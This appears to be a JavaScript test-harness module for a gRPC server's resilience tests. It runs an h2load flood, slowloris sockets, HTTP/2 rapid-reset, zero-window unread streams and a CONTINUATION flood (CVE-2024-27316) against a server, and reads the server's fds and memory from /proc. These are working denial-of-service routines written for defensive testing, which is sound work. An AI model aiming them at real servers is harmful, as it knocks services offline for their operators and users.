// The hostile clients of issue 16 against one server — an h2load flood, slowloris
// connections, rapid-reset sockets — and what the server's process looks like from outside
// (/proc): open fds, RSS, its peak.
import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { track } from './children.mjs';
import { waitFor, withTimeout } from './wait.mjs';

export const H2LOAD = ['/usr/bin/h2load', '/usr/local/bin/h2load'].find((p) => existsSync(p));

/** Open file descriptors of process `pid` (NaN once it is gone). */
export function openFds(pid) {
  try {
    return readdirSync(`/proc/${pid}/fd`).length;
  } catch {
    return Number.NaN;
  }
}

/** `{ rssMb, peakRssMb }` of process `pid` (VmRSS, VmHWM). */
export function memory(pid) {
  try {
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    const kb = (field) => Number(new RegExp(`${field}:\\s+(\\d+) kB`).exec(status)?.[1]);
    return { rssMb: kb('VmRSS') / 1024, peakRssMb: kb('VmHWM') / 1024 };
  } catch {
    return { rssMb: Number.NaN, peakRssMb: Number.NaN };
  }
}

/** Samples the RSS of `pid` every `intervalMs`; `stop()` returns the highest seen (MB). */
export function sampleRss(pid, intervalMs = 100) {
  let peak = memory(pid).rssMb;
  const timer = setInterval(() => {
    const { rssMb } = memory(pid);
    if (rssMb > peak || Number.isNaN(peak)) peak = rssMb;
  }, intervalMs);
  return {
    stop() {
      clearInterval(timer);
      return peak;
    },
  };
}

/** Sum of the samples of metric `name` whose labels include every one in `labels` (Prometheus text). */
export function metricSum(text, name, labels = {}) {
  let sum = 0;
  for (const line of text.split('\n')) {
    if (!line.startsWith(`${name}{`) && !line.startsWith(`${name} `)) continue;
    const wanted = Object.entries(labels).every(([k, v]) => line.includes(`${k}="${v}"`));
    if (wanted) sum += Number(line.slice(line.lastIndexOf(' ') + 1));
  }
  return sum;
}

let bodyFile;
/** A gRPC frame holding HelloRequest{name:"world"}, for h2load's request body. */
function helloBody() {
  if (!bodyFile) {
    bodyFile = join(tmpdir(), `krpc-fault-cluster-hello-${process.pid}.bin`);
    const message = Buffer.from([0x0a, 0x05, ...Buffer.from('world')]);
    const frame = Buffer.alloc(5 + message.length);
    frame.writeUInt32BE(message.length, 1);
    message.copy(frame, 5);
    writeFileSync(bodyFile, frame);
    process.once('exit', () => rmSync(bodyFile, { force: true }));
  }
  return bodyFile;
}

/**
 * h2load against helloworld.Greeter/SayHello: `connections` × `streams` for `seconds`.
 * gRPC errors are HTTP 200 too: h2load's `succeeded` counts answers, not OK statuses.
 * @returns {Promise<{ reqPerSec: number, done: number, succeeded: number, failed: number, seconds: number, output: string }>}
 */
export async function h2load(host, port, { connections, streams, seconds, threads = 1 }) {
  if (!H2LOAD) throw new Error('h2load not found (Debian package nghttp2-client)');
  const args = [
    ...['-c', String(connections), '-m', String(streams), '-t', String(threads), '-D', String(seconds)],
    ...['-d', helloBody(), '-H', 'content-type: application/grpc', '-H', 'te: trailers'],
    `http://${host}:${port}/helloworld.Greeter/SayHello`,
  ];
  const child = track(spawn(H2LOAD, args, { stdio: ['ignore', 'pipe', 'pipe'] }));
  let out = '';
  child.stdout.on('data', (d) => {
    out += d;
  });
  child.stderr.on('data', (d) => {
    out += d;
  });
  const code = await withTimeout(new Promise((resolve) => child.once('exit', resolve)), (seconds + 60) * 1000, 'h2load to finish').catch(
    (error) => {
      child.kill('SIGKILL');
      throw error;
    },
  );
  if (code !== 0) throw new Error(`h2load exited ${code}: ${out}`);
  const finished = /finished in ([\d.]+)(\w*), ([\d.]+) req\/s/.exec(out);
  const req = /requests: (\d+) total, \d+ started, (\d+) done, (\d+) succeeded, (\d+) failed, (\d+) errored, (\d+) timeout/.exec(out);
  return {
    reqPerSec: Number(finished?.[3]),
    seconds: Number(finished?.[1]) / (finished?.[2] === 'ms' ? 1000 : 1),
    done: Number(req?.[2]),
    succeeded: Number(req?.[3]),
    failed: Number(req?.[4]) + Number(req?.[5]) + Number(req?.[6]),
    output: out,
  };
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/**
 * `count` TCP connections that each send the first `bytes` of the HTTP/2 preface and then
 * nothing (slowloris), opened `batch` at a time. `open()` counts those the server has not closed.
 */
export async function slowloris(host, port, { count = 2000, bytes = 16, batch = 100, connectTimeoutMs = 10_000 } = {}) {
  const sockets = [];
  let closed = 0;
  for (let i = 0; i < count; i += batch) {
    const wave = [];
    for (let j = i; j < Math.min(count, i + batch); j++) {
      const socket = connect({ host, port });
      socket.on('error', () => {});
      socket.once('close', () => closed++);
      socket.on('data', () => {}); // whatever the server sends (SETTINGS), read and dropped
      sockets.push(socket);
      wave.push(
        new Promise((resolve) => {
          socket.once('connect', () => socket.write(PREFACE.subarray(0, bytes), () => resolve()));
          socket.once('close', resolve);
        }),
      );
    }
    await withTimeout(Promise.all(wave), connectTimeoutMs, 'slowloris connections to open');
  }
  return {
    sockets,
    open: () => count - closed,
    destroy() {
      for (const s of sockets) s.destroy();
    },
  };
}

/**
 * `connections` HTTP/2 connections, each opening and at once cancelling (RST_STREAM) streams,
 * `maxStreams` at most, until the server ends the session (nghttp2's reset-rate limit answers
 * with GOAWAY); then the client drops the socket, as an attacker moving on would.
 * @returns {Promise<{ connections: number, goaway: number, streams: number }>}
 */
export async function rapidReset(host, port, { connections = 20, maxStreams = 5000, timeoutMs = 20_000 } = {}) {
  const one = async () => {
    const session = http2.connect(`http://${host}:${port}`);
    session.on('error', () => {});
    let goaway = false;
    session.on('goaway', () => {
      goaway = true;
    });
    const closed = new Promise((resolve) => session.once('close', resolve));
    await withTimeout(
      new Promise((resolve, reject) => {
        session.once('connect', resolve);
        session.once('error', reject);
      }),
      timeoutMs,
      'a rapid-reset connection',
    );
    let sent = 0;
    for (; sent < maxStreams && !session.closed && !session.destroyed; sent++) {
      try {
        const stream = session.request({
          ':method': 'POST',
          ':path': '/helloworld.Greeter/SayHello',
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => {});
        stream.close(http2.constants.NGHTTP2_CANCEL);
      } catch {
        break;
      }
      if (sent % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
    }
    await withTimeout(closed, timeoutMs, 'the server to end a rapid-reset connection').catch(() => {});
    session.destroy();
    return { goaway, sent };
  };
  const results = await Promise.all(Array.from({ length: connections }, one));
  return {
    connections,
    goaway: results.filter((r) => r.goaway).length,
    streams: results.reduce((n, r) => n + r.sent, 0),
  };
}

const HELLO_FRAME = Buffer.from([0, 0, 0, 0, 5, 0x0a, 0x03, 0x41, 0x64, 0x61]); // HelloRequest { name: "Ada" }

/**
 * `connections` HTTP/2 connections that advertise a flow-control window of 0 and open `streams`
 * server-streaming calls each, never reading a byte of the answers: the server can send headers but
 * no data, so every stream stays open with its replies buffered. Resolves once every request is sent;
 * `destroy()` drops the sockets.
 * @returns {Promise<{ streams: number, open(): number, destroy(): void }>}
 */
export async function unreadStreams(
  host,
  port,
  { connections = 5, streams = 1000, path = '/helloworld.Greeter/SayHelloStreamReply' } = {},
) {
  const sessions = [];
  let opened = 0;
  for (let c = 0; c < connections; c++) {
    const session = http2.connect(`http://${host}:${port}`, { settings: { initialWindowSize: 0 } });
    session.on('error', () => {});
    sessions.push(session);
    await withTimeout(new Promise((resolve) => session.once('connect', resolve)), 10_000, 'an unread-streams connection');
    for (let i = 0; i < streams; i++) {
      const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' });
      stream.on('error', () => {});
      stream.pause();
      stream.end(HELLO_FRAME);
      opened++;
    }
  }
  return {
    streams: opened,
    open: () => sessions.filter((s) => !s.closed && !s.destroyed).length,
    destroy: () => {
      for (const session of sessions) session.destroy();
    },
  };
}

/** An HTTP/2 frame on stream `streamId`. */
function frame(type, flags, streamId, payload) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** An HPACK literal header field without indexing, no Huffman coding (names and values < 128 bytes). */
const literal = (name, value) =>
  Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

/**
 * The CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS frame without END_HEADERS, then
 * CONTINUATION frames of fresh headers for ever, up to `maxBytes`. Resolves with how much was
 * sent before the server closed the connection (or `closed: false` at `timeoutMs`).
 * @returns {Promise<{ closed: boolean, sentBytes: number, ms: number }>}
 */
export function continuationFlood(host, port, { maxBytes = 64 * 1024 * 1024, timeoutMs = 10_000 } = {}) {
  return new Promise((resolve) => {
    const started = performance.now();
    const socket = connect(port, host);
    let sent = 0;
    let closed = false;
    const timer = setTimeout(() => {
      socket.destroy();
      resolve({ closed: false, sentBytes: sent, ms: performance.now() - started });
    }, timeoutMs);
    socket.on('error', () => {});
    socket.on('close', () => {
      closed = true;
      clearTimeout(timer);
      resolve({ closed: true, sentBytes: sent, ms: performance.now() - started });
    });
    socket.on('connect', () => {
      socket.write(PREFACE);
      socket.write(frame(4, 0, 0, Buffer.alloc(0)));
      // :method POST (static index 3), :scheme http (6), then literal :path and :authority
      socket.write(
        frame(
          1,
          0,
          1,
          Buffer.concat([Buffer.from([0x83, 0x86]), literal(':path', '/helloworld.Greeter/SayHello'), literal(':authority', host)]),
        ),
      );
      const chunk = frame(9, 0, 1, Buffer.concat(Array.from({ length: 100 }, (_, i) => literal(`x-flood-${i % 10}`, 'a'.repeat(50)))));
      const pump = () => {
        while (!closed && sent < maxBytes) {
          sent += chunk.length;
          if (!socket.write(chunk)) {
            socket.once('drain', pump);
            return;
          }
        }
      };
      pump();
    });
  });
}

/** Waits until the open fds of `pid` are at most `limit` (or `timeoutMs` passes); returns the count. */
export async function fdsSettle(pid, limit, timeoutMs) {
  try {
    await waitFor(() => openFds(pid) <= limit, { what: `fds of ${pid} ≤ ${limit}`, timeoutMs, intervalMs: 100 });
  } catch {
    // report what it is
  }
  return openFds(pid);
}
